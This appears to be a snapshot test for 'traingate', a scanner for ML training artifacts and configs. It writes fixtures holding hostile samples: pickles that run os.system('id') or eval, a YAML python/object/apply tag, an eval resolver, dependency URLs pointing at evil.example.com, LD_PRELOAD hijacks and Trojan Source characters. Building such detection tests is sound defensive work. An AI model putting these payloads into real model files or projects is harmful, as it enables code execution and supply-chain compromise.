"""No behaviour change where none is intended (issue #15).

``traingate scan`` runs in-process (JSON output, the built-in default policy)
over each fixture root: the evasion suite, the injected-code corpus, the legit
training loop, and a small engine corpus written by this test (pickles, torch
zips, npy, safetensors, compressed and LFS files; YAML, JSON, JSONC and TOML
configs, env and dependency files; Trojan Source and encoding cookies). The
artifacts, config and unicode checks have no fixture files of their own, so the
engine corpus is what pins their behaviour across a refactor.

Each finding is reduced to (check, rule id, path relative to the root, line,
column, severity, outcome) and, for the built-in checks, its message: the
messages of the semgrep check are the rule pack's text and change with it.
The sorted list is compared with tests/snapshots/behaviour.json. To accept a
change on purpose: ``TRAINGATE_UPDATE_SNAPSHOTS=1 pytest
tests/test_behaviour_snapshot.py`` and review the diff of the snapshot.
"""

from __future__ import annotations

import contextlib
import difflib
import gzip
import io
import json
import shutil
import struct
import warnings
import zipfile
from pathlib import Path
from typing import Any

import pytest

from traingate.cli import main

from .snapshot import SNAPSHOTS, UPDATE

FIXTURES = Path(__file__).parent / "fixtures"
SNAPSHOT = SNAPSHOTS / "behaviour.json"
FILE_ROOTS = ("evasion", "injected", "legit")

# --------------------------------------------------------------------------
# The engine corpus: bytes spelled out here, so the corpus does not depend on
# the Python version's pickler or on zipfile's timestamps.
# --------------------------------------------------------------------------

_EVIL_P0 = b"cposix\nsystem\n(S'id'\ntR."  # os.system("id"), protocol 0
_EVIL_P2 = b"\x80\x02cbuiltins\neval\nX\x04\x00\x00\x001+1s\x85R."
_CLEAN_P2 = (
    b"\x80\x02}q\x00(X\x01\x00\x00\x00aK\x01X\x01\x00\x00\x00bG?\xf0\x00\x00\x00\x00\x00\x00u."
)
_ODICT_P2 = b"\x80\x02ccollections\nOrderedDict\n)R."
# An allowed global mutated in place: BUILD on the imported class itself.
_MUTATE_P2 = b"\x80\x02ccollections\nOrderedDict\n}X\x01\x00\x00\x00xK\x01sb."
# A pickle carrying another pickle as bytes that pickle.loads would run.
_NESTED_P2 = b"\x80\x02C" + bytes([len(_EVIL_P2)]) + _EVIL_P2 + b"."


def _zip(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buf, "w") as zf:
        warnings.simplefilter("ignore")  # a duplicate member name is one of the cases
        for name, content in members:
            zf.writestr(zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0)), content)
    return buf.getvalue()


def _npy(header: str, payload: bytes = b"") -> bytes:
    raw = header.encode("latin-1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(raw)) + raw + payload


def _safetensors(header: object, data: bytes) -> bytes:
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + data


_ARTIFACTS: dict[str, bytes] = {
    "models/evil_p0.pkl": _EVIL_P0,
    "models/evil_p2.pickle": _EVIL_P2,
    "models/clean.pkl": _CLEAN_P2,
    "models/odict.pt": _ODICT_P2,
    "models/mutate.pkl": _MUTATE_P2,
    "models/nested.pkl": _NESTED_P2,
    "models/truncated.pkl": _CLEAN_P2[:12],
    "models/raw_weights.bin": bytes(range(64)),
    "models/evil_pickle.bin": _EVIL_P2,
    "models/clean_torch.pt": _zip(
        [
            ("archive/data.pkl", _ODICT_P2),
            ("archive/version", b"3\n"),
            ("archive/data/0", b"\0" * 16),
        ]
    ),
    "models/evil_torch.pt": _zip([("archive/data.pkl", _EVIL_P2), ("archive/version", b"3\n")]),
    "models/duplicate.pt": _zip([("archive/data.pkl", _ODICT_P2), ("archive/data.pkl", _EVIL_P2)]),
    "models/scripted.pt": _zip(
        [
            ("archive/data.pkl", _ODICT_P2),
            ("archive/code/__torch__/model.py", b"def forward(): pass\n"),
        ]
    ),
    "models/unsafe_path.npz": _zip(
        [
            (
                "../escape.npy",
                _npy("{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }", b"\0" * 8),
            )
        ]
    ),
    "models/polyglot.pkl": _CLEAN_P2 + _zip([("x.pkl", _EVIL_P2)]),
    "models/plain.npy": _npy(
        "{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }", b"\0" * 8
    ),
    "models/object.npy": _npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", _EVIL_P2),
    "models/bad_header.npy": _npy("{'descr': '<f4', 'shape': (2,)}"),
    "models/good.safetensors": _safetensors(
        {"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, b"\0" * 8
    ),
    "models/gap.safetensors": _safetensors(
        {"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, b"\0" * 12
    ),
    "models/not_json.safetensors": struct.pack("<Q", 5) + b"{nope",
    "models/evil.pkl.gz": gzip.compress(_EVIL_P2, mtime=0),
    "models/evil.joblib": gzip.compress(_EVIL_P0, mtime=0),
    "models/packed.pkl.lz4": b"\x04\x22\x4d\x18" + b"\0" * 16,
    "models/lfs.ckpt": b"version https://git-lfs.github.com/spec/v1\n"
    b"oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n",
    "models/legacy.pth": b"\x80\x02\x8a\x0alZ\xfc\x9c\xf6\x86\x9c\x20\x95\x19." + _EVIL_P2,
    "site/extra.pth": b"import os; os.system('id')\n",
}

_TEXT: dict[str, str] = {
    "configs/train.yaml": """\
seed: 42
trust_remote_code: true
optimizer:
  lr: 3e-4
  lr: 0.1
model:
  _target_: os.system
  weights_only: false
loader: !!python/object/apply:os.system ["id"]
checkpoint: https://evil.example.com/ckpt.pt
data:
  root: ${oc.env:DATA_ROOT}/train
callback:
  _target_: ${oc.env:CALLBACK_CLASS}
anchors:
  base: &base {lr: 1, seed: 3}
  copy: *base
""",
    "configs/merge.yml": """\
defaults: &d
  seed: 1
  batch: 8
run:
  <<: *d
  batch: 16
  _target_: subprocess.run
""",
    "configs/resolver.yaml": """\
scale: ${eval:'__import__("os").system("id")'}
lr: ${mul:2,3}
""",
    "configs/broken.yaml": "a: [1, 2\nb: }\n",
    "configs/model/config.json": """\
{
  "model_type": "llama",
  "auto_map": {"AutoModel": "modeling_evil.EvilModel"},
  "hidden_size": 16,
  "hidden_size": 32
}
""",
    "configs/settings.jsonc": """\
{
  // comments are allowed here
  "seed": 7,
  "trust_remote_code": true, /* trailing */
}
""",
    "configs/bad.json": '{"a": 1,, }\n',
    "pyproject.toml": """\
[project]
name = "demo"
dependencies = ["torch", "evil @ git+https://evil.example.com/evil.git"]

[tool.train]
seed = 3
optimizer.lr = 0.5
""",
    "requirements.txt": "torch==2.3.0\n--extra-index-url https://evil.example.com/simple\n"
    "evil @ https://evil.example.com/evil.whl\n",
    "scripts/launch.sh": "#!/bin/sh\nexport LD_PRELOAD=/tmp/x.so\n"
    "export TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=1\nPYTHONPATH=/tmp/.hidden python train.py\n",
    "job.sbatch": "#!/bin/bash\n#SBATCH --export=LD_PRELOAD=/tmp/x.so\n"
    "export NCCL_ASYNC_ERROR_HANDLING=0\n",
    ".env": "PYTHONSTARTUP=/tmp/s.py\nSEED=1\n",
    "k8s/job.yaml": """\
apiVersion: batch/v1
kind: Job
spec:
  template:
    spec:
      containers:
        - name: train
          env:
            - name: LD_PRELOAD
              value: /tmp/x.so
          command: ["sh", "-c", "PYTHONPATH=/tmp/x python train.py"]
""",
    "src/trojan.py": (
        "access_level = 'user'\n"
        "if access_level != 'none\u202e \u2066# check if admin\u2069 \u2066':\n"
        "    print('admin')\n"
        "zero\u200bwidth = 1\n"
        "\uff45\uff58\uff45\uff43('print(1)')\n"
        "p\u0430ssword = 'x'\n"
        "URL = 'https://p\u0430ypal.com/login'\n"
        "HOST = 'p\u0430ypal'\n"
        "MSG = 'the p\u0430yment went through'\n"
        "RED = '\x1b[31m'\n"
        "FLAG = '\ufe0f'\n"
    ),
    "src/cookie.py": "# -*- coding: utf-7 -*-\nx = 1\n",
    "src/cookie_ok.py": "# coding: utf-8\nx = 1\n",
    "src/unknown_cookie.py": "# vim: set fileencoding=klingon :\nx = 1\n",
    "notes/README.md": "Safe text \u202e with a bidi override and a zero\u200dwidth joiner.\n",
    "tokenizer/vocab.json": '{"\u2581M\u043e\u0441\u043a\u0432\u0430.ru": 1}\n',
    "tools/run": "#!/usr/bin/env python3\nexe\u200bc = 1\n",
}


def _write_engine_corpus(root: Path) -> None:
    for rel, data in _ARTIFACTS.items():
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
    for rel, text in _TEXT.items():
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(text.encode("utf-8"))


# --------------------------------------------------------------------------
# The scan and the snapshot.
# --------------------------------------------------------------------------


def _scan(root: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    monkeypatch.chdir(root)
    out = root.parent / f"{root.name}.report.json"
    with contextlib.redirect_stdout(io.StringIO()):
        code = main(["scan", ".", "--format", "json", "--output", str(out)])
    report: dict[str, Any] = json.loads(out.read_text(encoding="utf-8"))
    assert code == report["exit_code"]
    return report


def _reduce(report: dict[str, Any]) -> dict[str, Any]:
    findings = []
    for f in report["findings"]:
        row = {
            "check": f["check"],
            "rule_id": f["rule_id"],
            "path": f["path"],
            "line": f["line"],
            "column": f["column"],
            "severity": f["severity"],
            "outcome": f["outcome"],
        }
        if f["check"] != "semgrep":
            row["message"] = f["message"]
        findings.append(row)
    findings.sort(key=lambda r: json.dumps(r, sort_keys=True))
    return {"decision": report["decision"], "errors": report["errors"], "findings": findings}


def test_findings_equal_the_snapshot(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    got: dict[str, Any] = {}
    # A copy outside any repository: the scan then uses the built-in default
    # policy, not this repository's .traingate.yaml at HEAD.
    for name in FILE_ROOTS:
        root = tmp_path / name
        shutil.copytree(FIXTURES / name, root)
        got[name] = _reduce(_scan(root, monkeypatch))
    engines = tmp_path / "engines"
    _write_engine_corpus(engines)
    got["engines"] = _reduce(_scan(engines, monkeypatch))
    for name, part in got.items():
        assert not part["errors"], f"{name}: the scan itself failed: {part['errors']}"

    text = json.dumps(got, indent=1, ensure_ascii=False, sort_keys=True) + "\n"
    if UPDATE:
        SNAPSHOT.write_text(text, encoding="utf-8", newline="\n")
    assert SNAPSHOT.is_file(), f"no {SNAPSHOT.name}; run with TRAINGATE_UPDATE_SNAPSHOTS=1"
    want = SNAPSHOT.read_text(encoding="utf-8")
    if text != want:
        diff = "".join(
            difflib.unified_diff(
                want.splitlines(keepends=True),
                text.splitlines(keepends=True),
                f"snapshots/{SNAPSHOT.name}",
                "scan",
                n=2,
            )
        )
        raise AssertionError(f"findings differ from the snapshot:\n{diff}")
